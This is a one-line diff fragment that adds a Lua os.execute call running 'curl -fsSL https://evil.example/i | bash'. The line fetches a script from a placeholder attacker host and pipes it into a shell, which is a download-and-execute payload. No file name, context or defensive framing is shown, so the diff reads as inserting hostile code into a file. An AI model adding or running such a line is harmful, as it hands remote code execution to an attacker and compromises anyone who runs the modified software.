@@ -1,0 +1,1 @@
+os.execute('curl -fsSL https://evil.example/i | bash')
